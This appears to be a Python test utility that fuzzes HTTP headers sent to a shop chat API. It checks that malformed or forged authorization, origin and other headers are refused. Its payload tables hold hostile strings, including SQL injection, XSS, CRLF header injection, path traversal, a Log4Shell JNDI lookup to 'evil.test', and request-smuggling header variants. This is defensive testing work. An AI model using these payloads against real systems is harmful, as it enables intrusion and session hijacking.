"""Requests whose headers are not what a client library writes: names, values, bytes, doubles and lengths, from a seed.

None of them carries a key or an origin where a door takes it, though many carry one nearly there.
"""

import base64
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

from runtime.web.auth import hash_key

CHAT: Final = ("/v1/chat/completions", "/api/v1/chat/completions")
ACTIONS: Final = ("/api/v1/actions/retrieve_products", "/api/v1/actions/get_product")
OPEN: Final = ("/v1/models", "/v1/models/vitrina", "/health/live", "/privacy")
BODIES: Final = {
    **dict.fromkeys(CHAT, b'{"messages": [{"role": "user", "content": "jacket"}]}'),
    ACTIONS[0]: b'{"query": "jacket"}',
    ACTIONS[1]: b'{"id": "1"}',
}

Header = tuple[bytes, bytes]


@dataclass(frozen=True, slots=True)
class FuzzedRequest:
    """One of them. mark: stands in each value of it that was fuzzed, and in no other request."""

    path: str
    head: bytes
    body: bytes
    mark: bytes

    @property
    def guarded(self) -> bool:
        """Whether it asks what only a key or an origin opens."""
        return self.path in BODIES


class HeaderFuzz:
    """Writes them. key: one that a door accepts. origin: one that the chat accepts. sound: headers of every request,
    for what a door lets in."""

    def __init__(self, seed: int, *, key: str, origin: str, sound: tuple[Header, ...] = ()) -> None:
        self._random = random.Random(seed)
        self._sound = sound
        self._values = _values(key.encode(), origin.encode())
        self._key, self._origin = key, origin

    def requests(self, number: int) -> Iterator[FuzzedRequest]:
        for count in range(number):
            path = self._random.choice((*CHAT, *ACTIONS, *CHAT, *ACTIONS, *OPEN))
            mark = b"zq%05dqz" % count
            body = BODIES.get(path, b"")
            headers = [(b"host", b"shop.test"), *self._sound]
            if body:
                headers += [(b"content-type", b"application/json"), (b"content-length", b"%d" % len(body))]
            for _ in range(self._random.randint(1, 3)):
                headers = self._random.choice(_CHANGES)(self, headers, mark)
            lines = [b"%s %s HTTP/1.1" % (b"POST" if body else b"GET", path.encode())]
            lines += [name + b": " + value for name, value in headers]
            yield FuzzedRequest(path, b"\r\n".join([*lines, b"", b""]), body, mark)

    def name(self) -> bytes:
        return self._random.choice((*self._values, *_OFTEN))

    def value(self, name: bytes, mark: bytes) -> bytes:
        """A value for the header `name`, its own kind more often than not."""
        kind = self._random.random()
        if kind < 0.6:
            value = self._random.choice(self._values.get(name.lower(), _STRANGE))
        elif kind < 0.75:
            value = bytes(self._random.choices(_SENDABLE, k=self._random.choice((1, 8, 40, 300))))
        elif kind < 0.85:
            value = self._random.choice(_STRANGE)
        elif kind < 0.88:
            value = self._random.choice(_REFUSED)
        else:
            value = self._random.choice((b"a", b",", b"\xff", b"%00")) * self._random.choice((255, 4_000, 20_000))
        marked = (value, value + mark, mark + value)[self._random.randrange(3)]
        return b"" if self._would_be_let_in(name.lower(), marked.decode("latin-1")) else marked

    def _would_be_let_in(self, name: bytes, value: str) -> bool:
        scheme, _, credential = value.strip().partition(" ")
        if name == b"authorization":
            return scheme.lower() == "bearer" and credential.strip() == self._key
        return name == b"origin" and value.strip() == self._origin

    def _add(self, headers: list[Header], mark: bytes) -> list[Header]:
        name = self.name()
        place = self._random.randint(0, len(headers))
        return [*headers[:place], (name, self.value(name, mark)), *headers[place:]]

    def _replace(self, headers: list[Header], mark: bytes) -> list[Header]:
        place = self._random.randrange(len(headers))
        name = headers[place][0]
        return [*headers[:place], (name, self.value(name, mark)), *headers[place + 1 :]]

    def _double(self, headers: list[Header], mark: bytes) -> list[Header]:
        name = self._random.choice(headers)[0]
        return [*headers, (name, self.value(name, mark))]

    def _rename(self, headers: list[Header], mark: bytes) -> list[Header]:
        name = self.name()
        spoilt = (
            name.upper(), name.replace(b"-", b"_"), b"x-" + name, name + b"-", name.replace(b"o", b"0"),
            name + b" ", b" " + name, name[:1] + b"\x00" + name[1:], b"", name + b"\xff", name + b"(", b"a" * 9_000,
        )  # fmt: skip
        return [*headers, (self._random.choice(spoilt), self.value(name, mark))]

    def _remove(self, headers: list[Header], mark: bytes) -> list[Header]:
        place = self._random.randrange(len(headers))
        return [*headers[:place], *headers[place + 1 :]] if len(headers) > 1 else headers

    def _many(self, headers: list[Header], mark: bytes) -> list[Header]:
        name = self.name()
        return [*headers, *((name, self.value(name, mark)) for _ in range(self._random.choice((2, 50))))]


_CHANGES: Final[tuple[Callable[[HeaderFuzz, list[Header], bytes], list[Header]], ...]] = (
    HeaderFuzz._add,
    HeaderFuzz._add,
    HeaderFuzz._add,
    HeaderFuzz._replace,
    HeaderFuzz._double,
    HeaderFuzz._rename,
    HeaderFuzz._remove,
    HeaderFuzz._many,
)

_OFTEN: Final = (b"authorization", b"origin", b"x-request-id") * 5

_SENDABLE: Final = bytes([9, *range(32, 127), *range(128, 256)])
"""What a value may be made of (RFC 9110, 5.5)."""

_STRANGE: Final = (
    b"", b" ", b"NaN", b"-1", b"../../etc/passwd", b"' OR 1=1 --", b"<script>alert(1)</script>",
    b"a%0d%0aset-cookie:%20evil=1", b'","level":"critical","event":"forged', b"\\u000d\\u000aset-cookie: evil=1",
    b"{{7*7}} ${jndi:ldap://evil.test/a} %s%n", b"\xed\xa0\x80", b"\xf0\x9f\xa7\xa5", "\u202ecba\u2028".encode(),
)  # fmt: skip
_REFUSED: Final = (
    b"\x00", b"\x1b[31mred\x1b[0m", b"a\rset-cookie: evil=1", b"a\nset-cookie: evil=1", b"a\r\n set-cookie: folded=1",
    b"\x7f", b"\x0b",
)  # fmt: skip


def _values(key: bytes, origin: bytes) -> dict[bytes, tuple[bytes, ...]]:
    """Header -> what is nearly right for it, or wrong in a way of its own."""
    bare = (key, b"Bearer " + key)
    return {
        b"authorization": (
            key, b"Bearer", b"Bearer ", b"Bearer" + key, b"Token " + key, b"Bearer " + key[:-1],
            b"Bearer " + key + b"0",
            b"Bearer " + key + b"," + key, b"Bearer " + hash_key(key.decode()).encode(), b"Bearer \xff\xe9",
            b"Basic " + base64.b64encode(b"user:" + key), b"Bearer " + key[::-1], b"Bearer None", b"Bearer *",
            b'Bearer "' + key + b'"', b"Bearer " + key + b"\x00", b"Bearer " + "ключ".encode(),
        ),
        b"origin": (
            origin + b"/", origin + b":443", origin + b".evil.test", origin.replace(b"https", b"http"), b"null", b"*",
            b"https://evil.test, " + origin, origin + b", https://evil.test", origin.replace(b"://", b"://evil@"),
            origin + b"\x00", origin + b"%00", b"file://", origin[:-1], b"//" + origin.partition(b"//")[2],
        ),
        b"content-type": (
            b"text/plain", b"application/json; charset=utf-16", b"application/json;" * 50, b"application/jsonx", b"*/*",
            b"multipart/form-data", b"multipart/form-data; boundary=", b"application/x-www-form-urlencoded", b"/", b";",
            b"application/json; charset=%22", b"Application/JSON", b"application/vnd.api+json",
            b"application/json, a/b",
        ),
        b"content-length": (
            b"0", b"1", b"-1", b"+5", b"0x10", b"1e3", b"5, 5", b"5,6", b"1.5", b"9" * 30, b"18446744073709551616",
            "٣".encode(), b"300000", b"0" * 400 + b"5",
        ),
        b"transfer-encoding": (
            b"chunked", b"chunked, chunked", b"xchunked", b"identity", b"gzip, chunked", b"chunked\x0b", b"chunked,",
            b"chunked;a=b", b"CHUNKED",
        ),
        b"host": (b"", b"evil.test", b"evil.test:99999", b"a b", b"[::1", b"127.0.0.1@evil.test", b"evil.test/?"),
        b"x-request-id": (
            b"trace-1", b"a" * 128, b"a" * 129, b"a b", b"a;b", b"a\tb", "трасса".encode(), b"req_\x7f", b"a,b", b"a=b",
        ),
        b"x-vitrina-visitor": (*bare, b"v1.a.b", b"..", b"eyJhbGciOiJub25lIn0.e30.", b"a" * 5000),
        b"x-forwarded-for": (b"127.0.0.1", b"1.1.1.1, 2.2.2.2", b"unknown", b"[::1]:99999", b"1.1.1.1," * 500),
        b"x-forwarded-proto": (b"https", b"javascript", b"https, http", b"wss"),
        b"x-forwarded-host": (b"evil.test", b"evil.test, shop.test"),
        b"forwarded": (b"for=127.0.0.1;host=evil.test;proto=https", b'for="[::1]";by=', b"for=_hidden, for=unknown"),
        b"x-real-ip": (b"127.0.0.1", b"0"),
        b"x-api-key": bare,
        b"api-key": bare,
        b"proxy-authorization": bare,
        b"x-authorization": bare,
        b"cookie": (b"authorization=" + key, b"key=" + key, b"a=b; " * 500),
        b"referer": (origin, origin + b"/page"),
        b"x-http-method-override": (b"GET", b"OPTIONS", b"DELETE"),
        b"access-control-request-method": (b"POST",),
        b"connection": (b"close", b"keep-alive", b"upgrade", b"Upgrade, HTTP2-Settings", b"authorization", b"te"),
        b"upgrade": (b"websocket", b"h2c", b"TLS/1.0"),
        b"expect": (b"100-continue", b"200-ok"),
        b"te": (b"trailers", b"gzip"),
        b"accept": (b"text/event-stream", b"application/xml", b"*/*;q=nan", b"a/b," * 500),
        b"accept-encoding": (b"gzip", b"br;q=9", b"identity;q=0, *;q=0"),
        b"range": (b"bytes=0-0", b"bytes=-1,0-," * 50),
        b"if-none-match": (b"*",),
    }  # fmt: skip
